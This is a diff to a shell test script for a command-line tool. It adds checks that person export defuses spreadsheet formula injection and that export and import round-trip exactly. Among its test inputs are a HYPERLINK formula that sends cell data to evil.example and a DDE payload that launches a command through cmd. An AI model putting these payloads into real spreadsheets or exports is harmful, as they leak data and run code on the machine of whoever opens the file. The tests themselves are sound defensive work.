@@ -61,4 +61,45 @@ check "a ref to a missing person is refused" contains "$err" "ref.csv:2: column 
 : > "$T/empty.csv"
 run "$BROKERSEC" person import "$T/empty.csv" --data "$A"
 check "an empty file is refused" contains "$err" "empty.csv:1: the file is empty"
+
+# A row of 64 cells ending with a comma at the end of the file: a clear error, not a crash.
+{ printf 'name,role\n'; i=0; while [ $i -lt 64 ]; do printf 'x,'; i=$((i + 1)); done; } > "$T/wide.csv"
+run "$BROKERSEC" person import "$T/wide.csv" --data "$A"
+check "64 cells and a comma are refused" [ "$rc" -eq 1 ]
+check "the refusal names the line" contains "$err" "wide.csv:2: more than 64 cells"
+
+# Formula injection (OWASP): export defuses cells a spreadsheet would run, the stored value
+# stays exact, and import gives back exactly what was exported.
+C="$T/c"
+E="$T/e"
+"$BROKERSEC" init --data "$C" --org "丙" --internal-control no >/dev/null 2>&1
+"$BROKERSEC" init --data "$E" --org "丁" --internal-control no >/dev/null 2>&1
+tab=$(printf '\t')
+for v in '=HYPERLINK("http://evil.example/?x="&A1,"click")' '+1+cmd|'"'"'/C calc'"'"'!A0' '-2+3' '@SUM(A1:A2)' \
+	"$tab=1" "'=already quoted" "'plain"; do
+	run "$BROKERSEC" person add --name "$v" --role it --note "$v" --data "$C"
+	check "add '$v'" [ "$rc" -eq 0 ]
+done
+"$BROKERSEC" person export --data "$C" > "$T/f.csv"
+check "= is defused" grep -q "^1,\"'=HYPERLINK(\"\"http" "$T/f.csv"
+check "+ is defused" grep -q "^2,\"'+1+cmd" "$T/f.csv"
+check "- is defused" grep -q "^3,\"'-2+3\"" "$T/f.csv"
+check "@ is defused" grep -q "^4,\"'@SUM(A1:A2)\"" "$T/f.csv"
+check "tab is defused" grep -q "^5,\"'$tab=1\"" "$T/f.csv"
+check "a value starting with '= gets one more quote" grep -q "^6,\"''=already quoted\"" "$T/f.csv"
+check "a quote before plain text is left alone" grep -q "^7,'plain," "$T/f.csv"
+check "no cell starts with a formula character" [ "$(python3 -c '
+import csv, sys
+bad = [c for row in csv.reader(open(sys.argv[1], newline="")) for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+print(len(bad))' "$T/f.csv")" = 0 ]
+run "$BROKERSEC" person show 1 --format json --data "$C"
+check "show returns the exact value" contains "$out" '"name": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"'
+run "$BROKERSEC" person import "$T/f.csv" --data "$E"
+check "the defused export imports" [ "$rc" -eq 0 ]
+"$BROKERSEC" person export --data "$E" > "$T/f2.csv"
+check "export -> import -> export is exact" cmp -s "$T/f.csv" "$T/f2.csv"
+check "the imported values are exact" [ "$(sqlite3 "$E/brokersec.db" "SELECT group_concat(data, '|') FROM reg_record ORDER BY id")" = \
+	"$(sqlite3 "$C/brokersec.db" "SELECT group_concat(data, '|') FROM reg_record ORDER BY id")" ]
+run "$BROKERSEC" person show 6 --format json --data "$E"
+check "a value that starts with '= survives" contains "$out" "\"name\": \"'=already quoted\""
 finish
